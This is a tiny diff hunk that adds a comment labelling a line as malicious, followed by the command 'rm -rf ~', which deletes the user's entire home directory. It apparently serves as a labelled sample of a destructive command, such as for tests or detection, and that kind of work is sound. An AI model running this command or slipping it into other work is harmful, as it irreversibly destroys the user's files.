@@ -1,0 +1,2 @@
+# Malicious: rm -rf ~ deletes the user's entire home directory.
+rm -rf ~
